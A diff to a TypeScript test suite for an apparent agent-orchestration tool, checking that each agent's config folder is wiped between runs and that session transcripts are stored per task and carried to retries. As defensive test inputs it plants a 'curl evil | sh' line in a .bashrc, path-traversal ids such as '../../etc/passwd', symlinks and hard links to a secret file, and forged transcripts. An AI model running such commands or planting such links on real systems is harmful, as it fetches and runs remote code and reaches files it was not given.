@@ -1,5 +1,6 @@
-// An agent's CLI config folder between runs: emptied after each, its session transcripts kept
-// out of the agents' reach in a bounded store, and carried back for a retry's --resume.
+// An agent's CLI config folder between runs: emptied after each, the run's own session
+// transcript kept out of the agents' reach under its task's id in a bounded store, and carried
+// to the task's retry for --resume.
 import { randomUUID } from "node:crypto";
 import {
   existsSync,
@@ -18,6 +19,8 @@ import path from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import {
   carrySession,
+  emptyDir,
+  keepSession,
   MAX_KEPT_SESSIONS,
   projectDir,
   resetConfig,
@@ -29,39 +32,73 @@ describe("session transcripts between runs", () => {
   const config = (agent: string) => path.join(agents, agent, "claude-config");
   const store = (agent: string) => sessionStore(path.join(agents, agent));
   /** Writes a transcript as the CLI does, in `agent`'s config folder for `cwd`. */
-  const transcript = (agent: string, cwd: string, id = randomUUID(), text = `{"id":"${id}"}\n`) => {
+  const write = (agent: string, cwd: string, sessionId: string, text: string) => {
     const dir = projectDir(config(agent), cwd);
     mkdirSync(dir, { recursive: true });
-    writeFileSync(path.join(dir, `${id}.jsonl`), text);
-    return id;
+    writeFileSync(path.join(dir, `${sessionId}.jsonl`), text);
   };
+  /** What the AgentHost does after a run of `taskId` on `agent` that reported `sessionId`. */
+  const afterRun = async (agent: string, cwd: string, sessionId: string, taskId: string) => {
+    const kept = keepSession({
+      configDir: config(agent),
+      cwd,
+      sessionId,
+      taskId,
+      store: store(agent),
+    });
+    await resetConfig(config(agent));
+    return kept;
+  };
+  const carry = (agent: string, taskId: string, sessionId: string, cwd: string) =>
+    carrySession(agents, taskId, sessionId, config(agent), cwd, undefined);
+  const carried = (agent: string, cwd: string, sessionId: string) =>
+    readFileSync(path.join(projectDir(config(agent), cwd), `${sessionId}.jsonl`), "utf8");
   beforeEach(() => {
     agents = mkdtempSync(path.join(tmpdir(), "conductor-sessions-"));
     for (const a of ["a", "b"]) mkdirSync(config(a), { recursive: true });
   });
   afterEach(() => rmSync(agents, { recursive: true, force: true }));
 
-  it("leaves the next run nothing of the last, and carries a transcript to a retry on another agent", async () => {
-    const id = transcript("a", "/work/one");
+  it("leaves the next run nothing of the last, and carries each retry the last attempt's transcript", async () => {
+    const [task, session] = [randomUUID(), randomUUID()];
+    write("a", "/work/one", session, "attempt 1\n");
     writeFileSync(path.join(config("a"), ".bashrc"), "curl evil | sh\n");
     mkdirSync(path.join(projectDir(config("a"), "/work/one"), "memory"));
-    await resetConfig(config("a"), store("a"));
+    expect(await afterRun("a", "/work/one", session, task)).toBe(true);
     // The next task on agent a sees an empty HOME: no earlier conversation, no dotfile.
     expect(readdirSync(config("a"))).toEqual([]);
-    expect(readdirSync(store("a"))).toEqual([`${id}.jsonl`]);
-    // The retry runs on agent b, in another folder: the transcript is copied there.
-    expect(carrySession(agents, id, config("b"), "/work/two", undefined)).toBe(true);
-    const carried = path.join(projectDir(config("b"), "/work/two"), `${id}.jsonl`);
-    expect(readFileSync(carried, "utf8")).toBe(`{"id":"${id}"}\n`);
-    // What the resumed run appended is what the store keeps after it.
-    writeFileSync(carried, "more\n", { flag: "a" });
-    await resetConfig(config("b"), store("b"));
-    expect(readFileSync(path.join(store("b"), `${id}.jsonl`), "utf8")).toMatch(/more\n$/);
-    expect(carrySession(agents, randomUUID(), config("a"), "/w", undefined)).toBe(false);
-    expect(carrySession(agents, "../../etc/passwd", config("a"), "/w", undefined)).toBe(false);
+    expect(readdirSync(store("a"))).toEqual([`${task}.jsonl`]);
+    // Attempt 2 runs on agent b, in another folder: the transcript is moved there.
+    expect(carry("b", task, session, "/work/two")).toBe(true);
+    expect(carried("b", "/work/two", session)).toBe("attempt 1\n");
+    expect(readdirSync(store("a"))).toEqual([]);
+    writeFileSync(path.join(projectDir(config("b"), "/work/two"), `${session}.jsonl`), "2\n", {
+      flag: "a",
+    });
+    await afterRun("b", "/work/two", session, task);
+    // Attempt 3, on agent a again, goes on from attempt 2, not from what a kept of attempt 1.
+    expect(carry("a", task, session, "/work/one")).toBe(true);
+    expect(carried("a", "/work/one", session)).toBe("attempt 1\n2\n");
+    expect(carry("b", randomUUID(), session, "/w")).toBe(false);
+    expect(carry("b", "../../etc", session, "/w")).toBe(false);
   });
 
-  it("keeps no link an agent planted as a transcript, and none of what it points at", async () => {
+  it("keeps only the run's own session, under its task's id: no run puts its transcript in another task's place", async () => {
+    const [victimTask, victimSession] = [randomUUID(), randomUUID()];
+    write("a", "/v", victimSession, "the victim's\n");
+    await afterRun("a", "/v", victimSession, victimTask);
+    // The attacker's run writes a transcript named after the victim's session (and task).
+    const [task, session] = [randomUUID(), randomUUID()];
+    write("a", "/x", session, "mine\n");
+    write("a", "/x", victimSession, "FORGED\n");
+    write("a", "/x", victimTask, "FORGED\n");
+    await afterRun("a", "/x", session, task);
+    expect(readdirSync(store("a")).sort()).toEqual([`${task}.jsonl`, `${victimTask}.jsonl`].sort());
+    expect(carry("b", victimTask, victimSession, "/v")).toBe(true);
+    expect(carried("b", "/v", victimSession)).toBe("the victim's\n");
+  });
+
+  it("keeps no link an agent planted as its transcript, and touches none of what it points at", async () => {
     const secret = path.join(agents, "secret.txt");
     writeFileSync(secret, "root's own\n");
     const dir = projectDir(config("a"), "/w");
@@ -69,32 +106,47 @@ describe("session transcripts between runs", () => {
     const [soft, hard] = [randomUUID(), randomUUID()];
     symlinkSync(secret, path.join(dir, `${soft}.jsonl`));
     linkSync(secret, path.join(dir, `${hard}.jsonl`));
-    // A project folder that is a link to another agent's store is not walked either.
-    const theirs = transcript("b", "/x");
-    await resetConfig(config("b"), store("b"));
-    symlinkSync(store("b"), path.join(config("a"), "projects", "-elsewhere"));
-    await resetConfig(config("a"), store("a"));
+    expect(await afterRun("a", "/w", soft, randomUUID())).toBe(false);
+    // A project folder that is a link (to another agent's store, say) is not walked either.
+    const other = store("b");
+    mkdirSync(other, { recursive: true });
+    writeFileSync(path.join(other, "x.jsonl"), "theirs\n");
+    mkdirSync(path.join(config("a"), "projects"));
+    symlinkSync(other, projectDir(config("a"), "/l"));
+    expect(await afterRun("a", "/l", hard, randomUUID())).toBe(false);
     expect(existsSync(store("a"))).toBe(false);
     expect(readdirSync(config("a"))).toEqual([]);
     expect(readFileSync(secret, "utf8")).toBe("root's own\n");
-    expect(readdirSync(store("b"))).toEqual([`${theirs}.jsonl`]);
+    expect(readdirSync(other)).toEqual(["x.jsonl"]);
   });
 
-  it(`keeps the newest ${MAX_KEPT_SESSIONS} transcripts of an agent, not every one it ever wrote`, async () => {
-    const ids: string[] = [];
-    const t0 = Date.now() / 1000 - 10_000;
-    for (let i = 0; i < MAX_KEPT_SESSIONS + 10; i++) {
-      const id = transcript("a", `/w/${i % 3}`);
-      const file = path.join(projectDir(config("a"), `/w/${i % 3}`), `${id}.jsonl`);
-      utimesSync(file, t0 + i, t0 + i); // written one after another
-      ids.push(id);
+  it("leaves nothing behind whose name is not UTF-8", async () => {
+    const base = Buffer.from(`${config("a")}/`);
+    const odd = Buffer.concat([base, Buffer.from([0x7a, 0xe9])]);
+    mkdirSync(odd);
+    writeFileSync(Buffer.concat([odd, Buffer.from("/note")]), "left by task A\n");
+    writeFileSync(Buffer.concat([base, Buffer.from([0xe9, 0x70])]), "x");
+    await resetConfig(config("a"));
+    expect(readdirSync(config("a"))).toEqual([]);
+    await expect(emptyDir(path.join(agents, "none"))).rejects.toThrow(/ENOENT/);
+  });
+
+  it(`keeps the last ${MAX_KEPT_SESSIONS} transcripts kept, whatever dates the agents gave them`, async () => {
+    const tasks: string[] = [];
+    for (let i = 0; i < MAX_KEPT_SESSIONS + 5; i++) {
+      const [task, session] = [randomUUID(), randomUUID()];
+      write("a", "/w", session, "x\n");
+      // An agent dates its transcript far ahead, to outlive every other one.
+      const file = path.join(projectDir(config("a"), "/w"), `${session}.jsonl`);
+      if (i < 5) utimesSync(file, 4e9, 4e9);
+      await afterRun("a", "/w", session, task);
+      tasks.push(task);
     }
-    await resetConfig(config("a"), store("a"));
     const kept = readdirSync(store("a")).sort();
     expect(kept).toEqual(
-      ids
-        .slice(10)
-        .map((id) => `${id}.jsonl`)
+      tasks
+        .slice(5)
+        .map((t) => `${t}.jsonl`)
         .sort(),
     );
   });
